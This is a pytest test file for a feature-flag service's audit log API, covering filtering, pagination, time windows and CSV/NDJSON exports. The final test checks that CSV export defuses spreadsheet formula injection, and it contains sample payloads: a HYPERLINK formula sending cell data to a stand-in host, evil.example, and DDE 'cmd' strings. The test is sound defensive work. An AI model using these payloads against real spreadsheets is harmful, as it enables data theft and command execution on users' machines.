"""Audit review: every filter and page boundary against a brute-force answer; exports round-trip."""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import UTC, datetime, timedelta

import pytest

from flagsvc.audit import decode_entry
from flagsvc.commit import AUDIT_FIELDS
from flagsvc.keys import EnvKeys

from .helpers import ENV_URL, FLAGS_URL, TIMEOUT_FLAG


@pytest.fixture(scope="module")
def history(shared):
    """~120 changes by three operators on six flags under three incidents; all entries, oldest first.
    Written once: the tests that take it only read."""
    client, auth, make_token, r = shared.client, shared.auth, shared.make_token, shared.r
    operators = {
        name: {"Authorization": f"Bearer {make_token('operator', name=name)}"} for name in ("ana", "bo", "cy")
    }
    flags = [f"f{i}" for i in range(6)]
    for key in flags:
        client.put(
            f"{ENV_URL}/flags/{key}", json={"kind": "kill_switch", "enabled": True}, headers=auth("admin")
        )
    rng = random.Random(7)
    state = dict.fromkeys(flags, True)
    for i in range(120):
        key, who = rng.choice(flags), rng.choice(list(operators))
        action = "kill" if state[key] else "restore"
        body = {"reason": f"step {i}", "incident": rng.choice(["INC-1", "INC-2", "INC-3"])}
        assert (
            client.post(f"{ENV_URL}/flags/{key}/{action}", json=body, headers=operators[who]).status_code
            == 200
        )
        state[key] = not state[key]
    return [decode_entry(sid, f) for sid, f in r.xrange(EnvKeys("production").audit)]


def fetch_all(client, auth, query: str, limit: int) -> list[dict]:
    """Every page of a query, following next_cursor."""
    seen, cursor = [], None
    while True:
        url = f"{ENV_URL}/audit?limit={limit}&{query}" + (f"&cursor={cursor}" if cursor else "")
        resp = client.get(url, headers=auth("reader"))
        assert resp.status_code == 200, resp.json
        page = resp.json
        assert len(page["entries"]) <= limit
        seen += page["entries"]
        cursor = page["next_cursor"]
        if not cursor:
            return seen


@pytest.mark.parametrize(
    ("query", "predicate"),
    [
        ("flag=f3", lambda e: e["flag"] == "f3"),
        ("actor=bo", lambda e: e["actor"] == "bo"),
        ("action=flag.restore", lambda e: e["action"] == "flag.restore"),
        ("incident=INC-2", lambda e: e["incident"] == "INC-2"),
        ("incident=INC-2&actor=ana", lambda e: e["incident"] == "INC-2" and e["actor"] == "ana"),
        (
            "flag=f1&action=flag.kill&actor=cy",
            lambda e: (e["flag"], e["action"], e["actor"]) == ("f1", "flag.kill", "cy"),
        ),
        ("", lambda e: True),
    ],
)
@pytest.mark.parametrize("limit", [1, 7, 1000])
@pytest.mark.parametrize("order", ["newest", "oldest"])
def test_filters_and_pages_return_exactly_the_matching_entries(
    shared, history, query, predicate, limit, order
):
    client, auth = shared.client, shared.auth
    expected = [e for e in history if predicate(e)]
    if order == "newest":
        expected.reverse()
    got = fetch_all(client, auth, f"{query}&order={order}", limit)
    assert [e["seq"] for e in got] == [e["seq"] for e in expected]


def test_time_windows(shared, history):
    client, auth = shared.client, shared.auth
    middle = history[len(history) // 2]
    until = history[len(history) // 2 + 20]
    since_q = middle["time"].replace("+", "%2B")
    got = fetch_all(client, auth, f"since={since_q}&until={until['time']}&order=oldest", 13)

    def ms(e):
        return datetime.fromisoformat(e["time"].replace("Z", "+00:00"))

    lo, hi = ms(middle), ms(until)
    assert [e["seq"] for e in got] == [e["seq"] for e in history if lo <= ms(e) <= hi]
    assert fetch_all(client, auth, "since=1h&incident=INC-1", 50) == fetch_all(
        client, auth, "incident=INC-1", 50
    )
    future = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    assert fetch_all(client, auth, f"since={future.replace('+', '%2B')}", 50) == []


def test_bad_times_are_422(shared, history):
    client, auth = shared.client, shared.auth
    resp = client.get(f"{ENV_URL}/audit?since=yesterday", headers=auth("reader"))
    assert resp.status_code == 422 and resp.json["errors"][0]["field"] == "since"


def test_csv_and_ndjson_exports_round_trip(shared, history):
    client, auth = shared.client, shared.auth
    expected = fetch_all(client, auth, "incident=INC-3&order=oldest", 1000)
    ndjson = client.get(
        f"{ENV_URL}/audit?incident=INC-3&order=oldest",
        headers={**auth("reader"), "Accept": "application/x-ndjson"},
    )
    assert ndjson.status_code == 200 and ndjson.mimetype == "application/x-ndjson"
    assert [json.loads(line) for line in ndjson.data.decode().splitlines()] == expected

    exported = client.get(
        f"{ENV_URL}/audit?incident=INC-3&order=oldest", headers={**auth("reader"), "Accept": "text/csv"}
    )
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.data.decode())))
    assert [r["id"] for r in rows] == [e["id"] for e in expected]
    for row, entry in zip(rows, expected, strict=True):
        row.pop("change")
        assert decode_entry(row.pop("id"), row) == entry
    assert list(rows[0]) == list(AUDIT_FIELDS)

    everything = client.get(f"{ENV_URL}/audit", headers={**auth("reader"), "Accept": "application/x-ndjson"})
    assert len(everything.data.decode().splitlines()) == len(history), "an export has no page limit"


def test_the_csv_export_says_what_changed_before_and_after(client, auth):
    admin = auth("admin")
    client.put(f"{FLAGS_URL}/t", json=TIMEOUT_FLAG, headers=admin)
    client.post(f"{FLAGS_URL}/t/kill", json={"reason": "INC-1"}, headers=auth("operator"))
    client.patch(f"{FLAGS_URL}/t", json={"default_variant": "short", "owner": "payments"}, headers=admin)
    client.delete(f"{FLAGS_URL}/t", headers=admin)
    exported = client.get(f"{ENV_URL}/audit?flag=t&order=oldest", headers={**admin, "Accept": "text/csv"})
    changes = [row["change"] for row in csv.DictReader(io.StringIO(exported.data.decode()))]
    assert changes == [
        "created",
        "enabled: true -> false",
        'default_variant: "normal" -> "short"; owner: "" -> "payments"',
        "archived",
    ]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_cannot_run_formulas_and_other_exports_keep_the_text(client, auth, make_token):
    """Any cell a spreadsheet would run as a formula (reason, incident, actor...) gets a leading
    quote in the CSV; JSON pages and NDJSON keep the exact text."""
    actor = '=HYPERLINK("http://evil.example/?"&A1)'
    hostile = {"Authorization": f"Bearer {make_token('operator', name=actor)}"}
    client.put(f"{ENV_URL}/flags/f", json={"kind": "kill_switch", "enabled": True}, headers=auth("admin"))
    sent = []
    for i, start in enumerate(FORMULA_STARTS):
        body = {"reason": f"{start}cmd|' /C calc'!A{i}", "incident": f"{start}1+{i}"}
        action = "restore" if i % 2 else "kill"
        assert client.post(f"{ENV_URL}/flags/f/{action}", json=body, headers=hostile).status_code == 200
        sent.append(body)

    url = f"{ENV_URL}/audit?flag=f&order=oldest"
    exported = client.get(url, headers={**auth("reader"), "Accept": "text/csv"})
    create, *rows = csv.DictReader(io.StringIO(exported.data.decode(), newline=""))
    assert [(r["actor"], r["reason"], r["incident"]) for r in rows] == [
        ("'" + actor, "'" + body["reason"], "'" + body["incident"]) for body in sent
    ]
    assert create["actor"] == "admin" and create["action"] == "flag.create", "other cells as they were"

    page = client.get(url, headers=auth("reader")).json["entries"]
    ndjson = client.get(url, headers={**auth("reader"), "Accept": "application/x-ndjson"})
    streamed = [json.loads(line) for line in ndjson.data.decode().splitlines()]
    for entries in (page, streamed):
        assert [(e["actor"], e["reason"], e["incident"]) for e in entries[1:]] == [
            (actor, body["reason"], body["incident"]) for body in sent
        ]
